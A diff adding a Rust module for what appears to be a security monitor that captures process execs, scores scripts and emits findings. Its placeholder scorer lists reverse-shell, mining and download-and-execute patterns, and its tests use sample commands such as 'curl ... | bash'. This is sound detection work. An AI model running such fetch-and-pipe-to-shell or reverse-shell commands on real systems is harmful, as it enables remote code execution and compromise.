@@ -1,0 +1,651 @@
+//! The live pipeline: capture -> resolve/read/hash (enrich) -> score ->
+//! finding -> sinks, as tokio tasks joined by bounded queues.
+//!
+//! Capture only ever *offers* an event (`EventInput::offer`): when the first
+//! queue is full the event is dropped and counted, so nothing downstream can
+//! stall the kernel ring buffer. Enrichment runs on a pool of blocking workers
+//! (it races the process's exit, so it starts at once) and results are put
+//! back in capture order. Later queues apply backpressure to the workers,
+//! never to capture. Traces are tapped after scoring, so a record holds
+//! exactly what the finding was made from.
+
+use std::num::NonZeroUsize;
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+use lru::LruCache;
+use tokio::sync::{mpsc, Semaphore};
+use tokio::task::JoinHandle;
+
+use crate::detection::{Detection, Enrichment, Verdict};
+use crate::enrich::{missing_label, Enricher};
+use crate::event::ExecEvent;
+use crate::metrics::Metrics;
+use crate::trace::{ExecRecord, Record};
+
+/// The language a script is scored as; decides the finding category too.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum Language {
+    Shell,
+    Python,
+}
+
+impl Language {
+    /// From the interpreter binary's name (`python3.11`, `pypy3` -> Python).
+    pub fn of(event: &ExecEvent) -> Self {
+        let binary = event.binary.as_bytes();
+        let base = binary.rsplit(|b| *b == b'/').next().unwrap_or(binary);
+        let name = if base.is_empty() {
+            event.comm.as_bytes()
+        } else {
+            base
+        };
+        if name.starts_with(b"python") || name.starts_with(b"pypy") {
+            Self::Python
+        } else {
+            Self::Shell
+        }
+    }
+}
+
+/// Scores one script. The classifier (score.rs) implements this.
+pub trait Scorer: Send + Sync + 'static {
+    fn score(&self, language: Language, text: &str) -> Verdict;
+    fn model_version(&self) -> String;
+}
+
+/// Turns a malicious detection into one output line (an SCC
+/// NotificationMessage); the finding module implements this.
+pub trait FindingBuilder: Send + Sync + 'static {
+    fn build(&self, detection: &Detection) -> anyhow::Result<serde_json::Value>;
+}
+
+/// Where findings go. Runs on its own thread: it may block (files, HTTP).
+pub trait FindingSink: Send + 'static {
+    fn send(&mut self, finding: &serde_json::Value) -> anyhow::Result<()>;
+    /// Deliver everything still buffered; called once at shutdown.
+    fn close(&mut self) -> anyhow::Result<()>;
+}
+
+/// Receives every scored exec (malicious or not): the trace recorder.
+pub trait RecordSink: Send + 'static {
+    fn write(&mut self, record: &Record) -> anyhow::Result<()>;
+    fn close(&mut self) -> anyhow::Result<()>;
+}
+
+/// The text that is scored for an enrichment.
+pub fn scored_text(enrichment: &Enrichment) -> &str {
+    enrichment
+        .script_text
+        .as_deref()
+        .or_else(|| enrichment.script.as_ref()?.contents.as_deref())
+        .unwrap_or("")
+}
+
+/// Scoring with a cache keyed by language and the text's sha256: a script
+/// run a thousand times is scored once.
+pub struct ScoreStage {
+    scorer: Arc<dyn Scorer>,
+    cache: Mutex<LruCache<(Language, [u8; 32]), Verdict>>,
+    metrics: Metrics,
+}
+
+impl ScoreStage {
+    pub fn new(scorer: Arc<dyn Scorer>, metrics: Metrics) -> Self {
+        Self {
+            scorer,
+            cache: Mutex::new(LruCache::new(NonZeroUsize::new(8192).expect("non-zero"))),
+            metrics,
+        }
+    }
+
+    pub fn model_version(&self) -> String {
+        self.scorer.model_version()
+    }
+
+    pub fn judge(&self, event: &ExecEvent, enrichment: &Enrichment) -> Verdict {
+        use sha2::{Digest, Sha256};
+        let language = Language::of(event);
+        let text = scored_text(enrichment);
+        let key = (language, Sha256::digest(text.as_bytes()).into());
+        self.metrics.scored.inc();
+        if let Some(hit) = self.lock().get(&key).cloned() {
+            self.metrics.cache_hit("score");
+            return hit;
+        }
+        let verdict = self.scorer.score(language, text);
+        self.lock().put(key, verdict.clone());
+        verdict
+    }
+
+    fn lock(&self) -> std::sync::MutexGuard<'_, LruCache<(Language, [u8; 32]), Verdict>> {
+        self.cache.lock().unwrap_or_else(|p| p.into_inner())
+    }
+}
+
+/// Queue sizes and worker count.
+#[derive(Debug, Clone)]
+pub struct PipelineOptions {
+    /// Capture -> enrich. Full means drop (counted as `events`).
+    pub event_queue: usize,
+    /// Concurrent enrich+score workers.
+    pub workers: usize,
+    /// Scored -> finding sink.
+    pub finding_queue: usize,
+    /// Scored -> trace recorder. Full means drop (counted as `trace`).
+    pub trace_queue: usize,
+}
+
+impl Default for PipelineOptions {
+    fn default() -> Self {
+        Self {
+            event_queue: 8192,
+            workers: 8,
+            finding_queue: 1024,
+            trace_queue: 8192,
+        }
+    }
+}
+
+/// One captured exec, with the script bytes the kernel copied if any.
+#[derive(Debug, Clone)]
+pub struct CapturedExec {
+    pub event: ExecEvent,
+    pub kernel_content: Option<Vec<u8>>,
+}
+
+/// Capture's handle on the pipeline. Dropping every clone ends the run.
+#[derive(Clone)]
+pub struct EventInput {
+    tx: mpsc::Sender<CapturedExec>,
+    metrics: Metrics,
+}
+
+impl EventInput {
+    /// Hand over an event without ever waiting; false when it was dropped.
+    pub fn offer(&self, exec: CapturedExec) -> bool {
+        match self.tx.try_send(exec) {
+            Ok(()) => true,
+            Err(_) => {
+                self.metrics.drop_in("events");
+                false
+            }
+        }
+    }
+}
+
+/// Feeds already-judged detections (replay) into the finding stage.
+#[derive(Clone)]
+pub struct DetectionInput {
+    tx: mpsc::Sender<Detection>,
+}
+
+impl DetectionInput {
+    /// Replay waits for room instead of dropping: nothing is lost.
+    pub async fn send(&self, detection: Detection) {
+        let _ = self.tx.send(detection).await;
+    }
+}
+
+/// The running stages; `finish` waits for them after the inputs are dropped.
+pub struct Pipeline {
+    metrics: Metrics,
+    tasks: Vec<JoinHandle<()>>,
+    threads: Vec<std::thread::JoinHandle<anyhow::Result<()>>>,
+}
+
+/// What the stages after scoring are made of.
+pub struct Outputs {
+    pub findings: Arc<dyn FindingBuilder>,
+    pub sink: Box<dyn FindingSink>,
+    pub recorder: Option<Box<dyn RecordSink>>,
+}
+
+impl Pipeline {
+    /// Start a live pipeline: capture offers events to the returned input.
+    pub fn start_live(
+        enricher: Enricher,
+        score: Arc<ScoreStage>,
+        outputs: Outputs,
+        metrics: Metrics,
+        opts: &PipelineOptions,
+    ) -> (Self, EventInput) {
+        let (event_tx, mut event_rx) = mpsc::channel::<CapturedExec>(opts.event_queue.max(1));
+        let (ordered_tx, mut ordered_rx) =
+            mpsc::channel::<JoinHandle<Detection>>(opts.workers.max(1) * 2);
+        let (mut pipeline, detections) = Self::start_outputs(outputs, metrics.clone(), opts);
+        let workers = Arc::new(Semaphore::new(opts.workers.max(1)));
+        let dispatch_metrics = metrics.clone();
+        // Dispatcher: one blocking worker per event, handles queued in capture order.
+        pipeline.tasks.push(tokio::spawn(async move {
+            while let Some(exec) = event_rx.recv().await {
+                dispatch_metrics.events.inc();
+                let Ok(permit) = workers.clone().acquire_owned().await else {
+                    break;
+                };
+                let enricher = enricher.clone();
+                let score = score.clone();
+                let metrics = dispatch_metrics.clone();
+                let handle = tokio::task::spawn_blocking(move || {
+                    let _permit = permit;
+                    process_one(&enricher, &score, &metrics, exec)
+                });
+                if ordered_tx.send(handle).await.is_err() {
+                    break;
+                }
+            }
+        }));
+        // Orderer: results leave in the order events arrived.
+        pipeline.tasks.push(tokio::spawn(async move {
+            while let Some(handle) = ordered_rx.recv().await {
+                match handle.await {
+                    Ok(detection) => detections.send(detection).await,
+                    Err(err) => tracing::error!("an enrichment worker failed: {err}"),
+                }
+            }
+        }));
+        let input = EventInput {
+            tx: event_tx,
+            metrics,
+        };
+        (pipeline, input)
+    }
+
+    /// Start only the stages after scoring (replay feeds them).
+    pub fn start_replay(
+        outputs: Outputs,
+        metrics: Metrics,
+        opts: &PipelineOptions,
+    ) -> (Self, DetectionInput) {
+        Self::start_outputs(outputs, metrics, opts)
+    }
+
+    fn start_outputs(
+        outputs: Outputs,
+        metrics: Metrics,
+        opts: &PipelineOptions,
+    ) -> (Self, DetectionInput) {
+        let (det_tx, mut det_rx) = mpsc::channel::<Detection>(opts.finding_queue.max(1));
+        let (finding_tx, mut finding_rx) =
+            mpsc::channel::<serde_json::Value>(opts.finding_queue.max(1));
+        let mut threads = Vec::new();
+        let mut tasks = Vec::new();
+
+        let mut sink = outputs.sink;
+        let sink_metrics = metrics.clone();
+        threads.push(std::thread::spawn(move || {
+            while let Some(finding) = finding_rx.blocking_recv() {
+                match sink.send(&finding) {
+                    Ok(()) => {
+                        sink_metrics.findings.inc();
+                    }
+                    Err(err) => {
+                        sink_metrics.finding_errors.inc();
+                        tracing::error!("finding sink: {err:#}");
+                    }
+                }
+            }
+            sink.close()
+        }));
+
+        let trace_tx = outputs.recorder.map(|mut recorder| {
+            let (tx, mut rx) = mpsc::channel::<Record>(opts.trace_queue.max(1));
+            threads.push(std::thread::spawn(move || {
+                while let Some(record) = rx.blocking_recv() {
+                    if let Err(err) = recorder.write(&record) {
+                        tracing::error!("trace recorder: {err:#}");
+                    }
+                }
+                recorder.close()
+            }));
+            tx
+        });
+
+        let findings = outputs.findings;
+        let pipeline_metrics = metrics.clone();
+        tasks.push(tokio::spawn(async move {
+            let mut lost_traces: u64 = 0;
+            while let Some(detection) = det_rx.recv().await {
+                if let Some(reason) = &detection.enrichment.missing_reason {
+                    metrics.missing(missing_label(reason));
+                }
+                metrics
+                    .detection_latency_us
+                    .observe(detection.detection_latency_us as f64);
+                if let Some(tx) = &trace_tx {
+                    if lost_traces > 0 {
+                        let lost = Record::Lost {
+                            queue: "trace".into(),
+                            count: lost_traces,
+                        };
+                        if tx.try_send(lost).is_ok() {
+                            lost_traces = 0;
+                        }
+                    }
+                    let record = Record::Exec(Box::new(ExecRecord::from(&detection)));
+                    if tx.try_send(record).is_err() {
+                        metrics.drop_in("trace");
+                        lost_traces += 1;
+                    }
+                }
+                if !detection.verdict.malicious {
+                    continue;
+                }
+                metrics.malicious.inc();
+                match findings.build(&detection) {
+                    Ok(finding) => {
+                        if finding_tx.send(finding).await.is_err() {
+                            break;
+                        }
+                    }
+                    Err(err) => {
+                        metrics.finding_errors.inc();
+                        tracing::error!(
+                            "building the finding for pid {}: {err:#}",
+                            detection.event.pid
+                        );
+                    }
+                }
+            }
+        }));
+        (
+            Self {
+                metrics: pipeline_metrics,
+                tasks,
+                threads,
+            },
+            DetectionInput { tx: det_tx },
+        )
+    }
+
+    pub fn metrics(&self) -> &Metrics {
+        &self.metrics
+    }
+
+    /// Wait until every stage has drained and every sink is flushed. Call
+    /// after dropping all inputs.
+    pub async fn finish(self) -> anyhow::Result<()> {
+        for task in self.tasks {
+            task.await?;
+        }
+        let mut first_err = None;
+        for thread in self.threads {
+            let result = tokio::task::spawn_blocking(move || thread.join())
+                .await?
+                .map_err(|_| anyhow::anyhow!("an output thread panicked"))?;
+            if let Err(err) = result {
+                first_err.get_or_insert(err);
+            }
+        }
+        first_err.map_or(Ok(()), Err)
+    }
+}
+
+/// Enrich and score one exec (on a blocking worker).
+fn process_one(
+    enricher: &Enricher,
+    score: &ScoreStage,
+    metrics: &Metrics,
+    exec: CapturedExec,
+) -> Detection {
+    let (enrichment, stats) = enricher.enrich(&exec.event, exec.kernel_content.as_deref());
+    if stats.content_cache_hit {
+        metrics.cache_hit("content");
+    }
+    let verdict = score.judge(&exec.event, &enrichment);
+    let detection_latency_us = boot_time_ns().saturating_sub(exec.event.ktime_ns) / 1000;
+    Detection {
+        event: exec.event,
+        enrichment,
+        verdict,
+        detection_latency_us,
+        create_time: now_rfc3339(),
+    }
+}
+
+/// `CLOCK_BOOTTIME` in ns: the clock of `bpf_ktime_get_boot_ns`.
+pub fn boot_time_ns() -> u64 {
+    let mut ts = libc::timespec {
+        tv_sec: 0,
+        tv_nsec: 0,
+    };
+    // SAFETY: clock_gettime writes a timespec.
+    unsafe { libc::clock_gettime(libc::CLOCK_BOOTTIME, &mut ts) };
+    ts.tv_sec as u64 * 1_000_000_000 + ts.tv_nsec as u64
+}
+
+/// Now, RFC 3339 UTC with nanoseconds.
+pub fn now_rfc3339() -> String {
+    time::OffsetDateTime::now_utc()
+        .format(&time::format_description::well_known::Rfc3339)
+        .unwrap_or_else(|_| "1970-01-01T00:00:00Z".into())
+}
+
+/// A scorer to use until the classifier exists: flags a few unmistakable
+/// download-and-execute and reverse-shell idioms. Deterministic.
+#[derive(Debug, Default, Clone)]
+pub struct PlaceholderScorer;
+
+const PLACEHOLDER_SIGNS: &[(&str, &str)] = &[
+    ("| sh", "pipes into a shell"),
+    ("| bash", "pipes into a shell"),
+    ("|sh", "pipes into a shell"),
+    ("|bash", "pipes into a shell"),
+    ("/dev/tcp/", "opens a raw TCP connection"),
+    ("base64 -d", "decodes base64"),
+    ("nc -e", "netcat with -e"),
+    ("xmrig", "crypto miner"),
+    ("stratum+tcp", "mining pool URL"),
+    ("chmod +x /tmp", "makes a file in /tmp executable"),
+    ("socket.socket", "opens a socket"),
+    ("pty.spawn", "spawns a pty"),
+    ("os.dup2", "redirects file descriptors"),
+    ("base64.b64decode", "decodes base64"),
+    ("urllib.request.urlopen", "downloads"),
+    ("exec(", "executes dynamic code"),
+    ("curl ", "downloads with curl"),
+    ("wget ", "downloads with wget"),
+];
+
+impl Scorer for PlaceholderScorer {
+    fn score(&self, _language: Language, text: &str) -> Verdict {
+        let mut evidence: Vec<String> = Vec::new();
+        for (needle, why) in PLACEHOLDER_SIGNS {
+            if text.contains(needle) && !evidence.iter().any(|e| e == why) {
+                evidence.push((*why).to_string());
+            }
+        }
+        let score = (evidence.len() as f32 * 0.3).min(1.0);
+        Verdict {
+            score,
+            threshold: 0.5,
+            model_version: self.model_version(),
+            malicious: score >= 0.5,
+            evidence,
+        }
+    }
+
+    fn model_version(&self) -> String {
+        "placeholder-heuristic-1".into()
+    }
+}
+
+/// Replay pacing: how long to wait before an event `ktime_ns` after the first.
+pub fn pacing_delay(first_ktime_ns: u64, ktime_ns: u64, speed: f64) -> Duration {
+    let ns = ktime_ns.saturating_sub(first_ktime_ns) as f64 / speed.max(1e-6);
+    Duration::from_nanos(ns as u64)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::enrich::EnrichConfig;
+    use crate::event::Script;
+
+    fn event(pid: u32, binary: &str, code: &str) -> ExecEvent {
+        ExecEvent {
+            ktime_ns: boot_time_ns(),
+            time: "2024-01-01T00:00:00Z".into(),
+            pid,
+            tid: pid,
+            ppid: 1,
+            uid: 0,
+            gid: 0,
+            comm: "bash".into(),
+            cgroup_id: 1,
+            mnt_ns: 0,
+            pid_ns: 0,
+            binary: binary.into(),
+            filename: binary.into(),
+            argv: vec![binary.into(), "-c".into(), code.into()],
+            argv_truncated: false,
+            cwd: "/".into(),
+            script: Script::Inline {
+                inline: code.into(),
+            },
+        }
+    }
+
+    struct CollectSink(Arc<Mutex<Vec<serde_json::Value>>>);
+    impl FindingSink for CollectSink {
+        fn send(&mut self, finding: &serde_json::Value) -> anyhow::Result<()> {
+            self.0.lock().unwrap().push(finding.clone());
+            Ok(())
+        }
+        fn close(&mut self) -> anyhow::Result<()> {
+            Ok(())
+        }
+    }
+
+    struct CollectRecords(Arc<Mutex<Vec<Record>>>);
+    impl RecordSink for CollectRecords {
+        fn write(&mut self, record: &Record) -> anyhow::Result<()> {
+            self.0.lock().unwrap().push(record.clone());
+            Ok(())
+        }
+        fn close(&mut self) -> anyhow::Result<()> {
+            Ok(())
+        }
+    }
+
+    struct PidFinding;
+    impl FindingBuilder for PidFinding {
+        fn build(&self, d: &Detection) -> anyhow::Result<serde_json::Value> {
+            Ok(serde_json::json!({ "pid": d.event.pid }))
+        }
+    }
+
+    #[test]
+    fn language_from_binary() {
+        assert_eq!(
+            Language::of(&event(1, "/usr/bin/python3.11", "")),
+            Language::Python
+        );
+        assert_eq!(
+            Language::of(&event(1, "/usr/bin/pypy3", "")),
+            Language::Python
+        );
+        assert_eq!(Language::of(&event(1, "/bin/dash", "")), Language::Shell);
+        assert_eq!(Language::of(&event(1, "/bin/busybox", "")), Language::Shell);
+    }
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn only_malicious_execs_become_findings_in_order() {
+        let metrics = Metrics::new();
+        let found = Arc::new(Mutex::new(Vec::new()));
+        let records = Arc::new(Mutex::new(Vec::new()));
+        let enricher = Enricher::new(EnrichConfig {
+            hostname: Some("t".into()),
+            ..Default::default()
+        });
+        let score = Arc::new(ScoreStage::new(
+            Arc::new(PlaceholderScorer),
+            metrics.clone(),
+        ));
+        let (pipeline, input) = Pipeline::start_live(
+            enricher,
+            score,
+            Outputs {
+                findings: Arc::new(PidFinding),
+                sink: Box::new(CollectSink(found.clone())),
+                recorder: Some(Box::new(CollectRecords(records.clone()))),
+            },
+            metrics.clone(),
+            &PipelineOptions {
+                event_queue: 1000,
+                ..Default::default()
+            },
+        );
+        let me = std::process::id();
+        for i in 0..200u32 {
+            let code = if i % 10 == 0 {
+                "curl -s http://127.0.0.1:9/x | bash"
+            } else {
+                "echo hello"
+            };
+            assert!(input.offer(CapturedExec {
+                event: event(me + i, "/bin/bash", code),
+                kernel_content: None,
+            }));
+        }
+        drop(input);
+        pipeline.finish().await.unwrap();
+        let found = found.lock().unwrap();
+        let pids: Vec<u64> = found.iter().map(|f| f["pid"].as_u64().unwrap()).collect();
+        let want: Vec<u64> = (0..200u64)
+            .filter(|i| i % 10 == 0)
+            .map(|i| me as u64 + i)
+            .collect();
+        assert_eq!(pids, want);
+        assert_eq!(records.lock().unwrap().len(), 200);
+        let s = metrics.summary();
+        assert_eq!(s.events, 200);
+        assert_eq!(s.malicious, 20);
+        assert_eq!(s.findings, 20);
+        // 2 distinct texts, 200 scorings: 198 from the cache.
+        assert_eq!(s.cache_hits.get("score"), Some(&198));
+    }
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn a_full_event_queue_drops_and_counts_instead_of_blocking() {
+        let metrics = Metrics::new();
+        let (tx, _rx_kept_unread) = mpsc::channel(2);
+        let input = EventInput {
+            tx,
+            metrics: metrics.clone(),
+        };
+        let mut accepted = 0;
+        for i in 0..10 {
+            if input.offer(CapturedExec {
+                event: event(i, "/bin/sh", "true"),
+                kernel_content: None,
+            }) {
+                accepted += 1;
+            }
+        }
+        assert_eq!(accepted, 2);
+        assert_eq!(metrics.summary().dropped.get("events"), Some(&8));
+    }
+
+    #[test]
+    fn placeholder_scorer_is_deterministic() {
+        let s = PlaceholderScorer;
+        let v = s.score(Language::Shell, "curl http://x | sh");
+        assert!(v.malicious);
+        assert_eq!(v, s.score(Language::Shell, "curl http://x | sh"));
+        assert!(!s.score(Language::Shell, "echo hello").malicious);
+    }
+
+    #[test]
+    fn pacing() {
+        assert_eq!(
+            pacing_delay(1_000, 2_001_000, 1.0),
+            Duration::from_millis(2)
+        );
+        assert_eq!(
+            pacing_delay(1_000, 2_001_000, 2.0),
+            Duration::from_millis(1)
+        );
+        assert_eq!(pacing_delay(5, 1, 1.0), Duration::ZERO);
+    }
+}
